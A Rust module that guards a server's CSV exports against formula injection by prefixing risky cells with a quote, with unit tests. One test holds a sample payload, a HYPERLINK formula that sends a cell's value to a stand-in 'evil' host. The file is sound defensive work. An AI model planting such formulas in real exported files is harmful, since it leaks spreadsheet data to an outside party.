//! Every CSV the server writes goes through here: a cell that a spreadsheet would read as a
//! formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) is prefixed with `'`,
//! OWASP's rule against CSV injection. Free text (bill descriptions, device names, user names)
//! can hold anything; opened in Excel, `=HYPERLINK(...)` would otherwise run.

use std::borrow::Cow;

use crate::error::{ApiError, ApiResult};

/// The cell as it is safe to write.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    // A plain number such as -12.5 cannot be a formula and stays a number.
    if risky && !is_plain_number(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or_default();
    let fraction = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

/// Writes one record with every cell neutralised.
pub fn write_row<W: std::io::Write, S: AsRef<str>>(writer: &mut csv::Writer<W>, row: &[S]) -> ApiResult<()> {
    writer.write_record(row.iter().map(|cell| neutralise(cell.as_ref()).into_owned())).map_err(ApiError::internal)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_defused_and_numbers_kept() {
        assert_eq!(neutralise("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"), "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")");
        for risky in ["+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "-", "=1"] {
            assert!(neutralise(risky).starts_with('\''), "{risky:?}");
        }
        for kept in ["-12.5", "+3", "42", "Lucknow", "", "a=b", "0.5"] {
            assert_eq!(neutralise(kept), kept);
        }
        assert!(neutralise("-1.").starts_with('\''));
    }
}
